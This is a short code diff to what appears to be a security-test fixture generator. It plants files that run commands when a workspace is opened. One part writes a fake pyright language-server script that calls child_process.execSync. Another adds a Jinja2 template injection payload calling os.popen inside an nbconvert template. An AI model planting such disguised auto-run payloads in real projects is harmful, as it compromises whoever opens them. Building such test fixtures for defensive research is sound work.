@@ -66,8 +66,6 @@ def language_server(t):
     """R66."""
     script = f"require('child_process').execSync({json.dumps(t['command'])})"
     path = Path(t["root"], "node_modules", "pyright", "langserver.index.js")
-    package = {"name": "pyright", "version": "1.1.0", "bin": "langserver.index.js"}
-    _write(path.parent / "package.json", json.dumps(package))
     _write(Path(t["root"], "payload.py"), t["payload"])
     return _write(path, script)
 
@@ -83,6 +81,9 @@ def git_config(t):
 
 def nbconvert_config(t):
     """R68."""
+    _write(Path(t["root"], "payload.py"), t["payload"])
+    call = f'{{{{ cycler.__init__.__globals__.os.popen("{t["command"]}").read() }}}}'
+    _write(Path(t["root"], "lab", "index.html.j2"), call)
     return _write(Path(t["root"], "jupyter_nbconvert_config.py"), t["payload"])
 
 
